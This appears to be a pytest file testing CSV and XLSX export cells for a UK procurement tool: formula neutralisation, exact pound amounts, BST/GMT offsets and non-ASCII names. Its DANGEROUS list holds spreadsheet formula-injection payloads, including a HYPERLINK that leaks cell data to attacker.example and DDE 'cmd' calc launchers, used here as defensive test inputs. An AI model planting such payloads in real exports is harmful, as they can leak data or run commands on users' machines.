"""Cells of the CSV and XLSX exports: formula triggers neutralised in text (never in numbers),
amounts in pounds that read back exactly, UK times with their offset, and real names (ampersands,
apostrophes, letters beyond ASCII) that come back as they went in."""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime, timezone
from decimal import Decimal

import pytest

from dps.exports import Filters, csvout, xlsxout
from dps.exports.cells import CELL_CHARACTER_LIMIT, TRUNCATED, as_excel, as_text, neutralise, pounds
from dps.exports.tables import Column, Table
from tests.test_exports_tables import excel_date, excel_money, read_xlsx

UTC = timezone.utc
NAMES = [
    "Barking & Dagenham Council",
    "Newcastle-under-Lyme Borough Council",
    "Ynys Môn / Isle of Anglesey County Council",
    "Comhairle nan Eilean Siar",
    "O'Brien & Daughters Co-operative Ltd",
    "Cyngor Gwynedd — “quoted” <tags> \"double\"",
    "Line one\nline two, with a comma",
    "Literally _x0041_ and a tab\there",
]
DANGEROUS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+44 161 770 3000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert neutralise(text) == "'" + text
    assert as_text(text, "text") == "'" + text
    assert as_excel(text, "text") == "'" + text


@pytest.mark.parametrize("text", ["Oldham Council", "", " =1+1", "1-2", "£5,000", "'already quoted", "a=b", "#REF!"])
def test_other_text_is_left_as_it_is(text):
    assert neutralise(text) == text


def test_numbers_are_never_neutralised_and_amounts_are_exact_pounds():
    assert as_text(1_234_56, "money") == "1234.56"
    assert as_text(1, "money") == "0.01"
    assert as_text(0, "money") == "0.00"
    assert as_text(5_000_00, "money") == "5000.00"  # no £, no thousands separator
    assert as_text(999_999_999_999_99, "money") == "999999999999.99"
    assert as_text(-1_50, "money") == "-1.50"  # a number keeps its sign: it is not text
    assert as_text(-7, "int") == "-7"
    assert pounds(1_234_56) == Decimal("1234.56") and str(pounds(10)) == "0.10"
    # In a workbook an amount is a double: the one nearest the exact amount in pounds.
    assert as_excel(1, "money") == 0.01 and as_excel(1_234_56, "money") == 1234.56


def test_amounts_are_written_as_exact_pounds_without_going_through_decimal():
    # The writers use integer arithmetic: it must give what Decimal pounds would, to the last digit.
    amounts = [*range(-1_000, 1_000), *(10 ** n + d for n in range(3, 18) for d in (-1, 0, 1)),
               2 ** 53 - 1, 2 ** 53 + 1, 123_456_789_012_345_67, -98_765_432_109_876_54]
    for pence in amounts:
        assert as_text(pence, "money") == str(pounds(pence)), pence
        assert as_excel(pence, "money") == float(pounds(pence)), pence


def test_dates_times_booleans_and_nothing():
    assert as_text(date(2023, 6, 1), "date") == "2023-06-01"
    # Summer (BST) and winter (GMT): UK wall time with its offset.
    assert as_text(datetime(2023, 6, 1, 8, 0, tzinfo=UTC), "datetime") == "2023-06-01T09:00:00+01:00"
    assert as_text(datetime(2023, 12, 1, 9, 0, tzinfo=UTC), "datetime") == "2023-12-01T09:00:00+00:00"
    # A moment given for a date column is the UK date: 23:30 UTC on 31 March 2023 is 1 April.
    assert as_text(datetime(2023, 3, 31, 23, 30, tzinfo=UTC), "date") == "2023-04-01"
    assert (as_text(True, "bool"), as_text(False, "bool")) == ("Yes", "No")
    for kind in ("text", "money", "date", "datetime", "int", "bool"):
        assert as_text(None, kind) == "" and as_excel(None, kind) is None
    assert as_excel(datetime(2023, 6, 1, 8, 0, tzinfo=UTC), "datetime") == datetime(2023, 6, 1, 9, 0)
    with pytest.raises(ValueError):
        as_text(datetime(2023, 6, 1, 8, 0), "datetime")  # a naive time could be anywhere
    with pytest.raises(ValueError):
        as_text("x", "formula")


# The writers, with a table of the test's own rows ------------------------------------------------

def _table(rows: list[tuple]) -> Table:
    return Table(
        name="cells-test", title="Cells test", description="Rows chosen by the test.", sheet="Cells test",
        columns=(Column("Name"), Column("Amount", "money"), Column("Day", "date"), Column("When", "datetime"),
                 Column("Count", "int"), Column("SME", "bool")),
        rows=lambda filters: iter(rows), count=lambda filters: len(rows))


AMOUNTS = [1_234_56, 1, 5_000_01, 0, 10_000_000_00, 99, 7, 12_34, 50, 1, 2, 3, 4, 5]
ROWS = [(name, amount, date(2024, 3, 31), datetime(2024, 3, 31, 1, 30, tzinfo=UTC), 3, True)
        for name, amount in zip(NAMES + DANGEROUS, AMOUNTS, strict=True)]


def test_csv_round_trip_of_names_amounts_and_neutralised_cells():
    out = io.BytesIO()
    progress: list[int] = []
    written = csvout.write_table(_table(ROWS), Filters(), out, progress.append)
    data = out.getvalue()
    assert data.startswith(b"\xef\xbb\xbf") and written == len(ROWS) == sum(progress)
    assert not out.closed  # handed back open to whoever delivers it
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["Name", "Amount", "Day", "When", "Count", "SME"]
    for (name, amount, *_), row in zip(ROWS, rows[1:], strict=True):
        expected = "'" + name if name in DANGEROUS else name
        assert row[0] == expected
        assert Decimal(row[1]) * 100 == amount  # exact
        # 1:30 UTC on 31 March 2024, half an hour after the clocks went forward: 2:30 BST.
        assert row[2:] == ["2024-03-31", "2024-03-31T02:30:00+01:00", "3", "Yes"]
    assert rows[1][1] == "1234.56" and rows[2][1] == "0.01"


def test_xlsx_stores_text_as_strings_and_amounts_as_numbers_with_no_formulas_or_links(app):
    out = io.BytesIO()
    progress: list[int] = []
    with app.app_context():
        xlsxout.write_workbook(Filters(), out, progress.append, tables=(_table(ROWS),))
    data = out.getvalue()
    assert sum(progress) == len(ROWS)
    sheet = read_xlsx(data)["Cells test"]  # fails on any <f> formula or hyperlink
    assert [text for _, text in sheet[0]] == ["Name", "Amount", "Day", "When", "Count", "SME"]
    for (name, amount, *_), row in zip(ROWS, sheet[1:], strict=True):
        expected = "'" + name if name in DANGEROUS else name
        assert row[0] == ("s", expected)
        assert row[1][0] == "n" and excel_money(row[1][1]) == pounds(amount)
        assert excel_date(row[2][1]) == date(2024, 3, 31)
        assert row[4] == ("n", "3") and row[5] == ("s", "Yes")
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        xml = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
        assert "<f>" not in xml and "<f " not in xml and "hyperlink" not in xml
        assert not any(n.startswith("xl/worksheets/_rels/") for n in book.namelist())  # no link targets
        styles = book.read("xl/styles.xml").decode("utf-8")
    assert "£#,##0.00" in styles and "yyyy-mm-dd" in styles


def test_xlsx_cuts_a_cell_longer_than_excel_allows_and_says_so(app):
    long_text = "Môn " * 10_000  # 40,000 characters
    out = io.BytesIO()
    with app.app_context():
        xlsxout.write_workbook(Filters(), out, tables=(_table([(long_text, 1, None, None, None, None)]),))
    row = read_xlsx(out.getvalue())["Cells test"][1]
    assert len(row[0][1]) == CELL_CHARACTER_LIMIT and row[0][1].endswith(TRUNCATED)
    assert row[0][1].startswith("Môn Môn")


def test_a_row_that_does_not_fit_its_columns_is_refused():
    with pytest.raises(ValueError):
        csvout.write_table(_table([("only a name",)]), Filters(), io.BytesIO())


def test_a_sheet_name_longer_than_excel_allows_is_refused():
    with pytest.raises(ValueError):
        Table(name="x", title="x", description="x", sheet="A sheet name far longer than Excel allows",
              columns=(), rows=lambda f: iter(()), count=lambda f: 0)
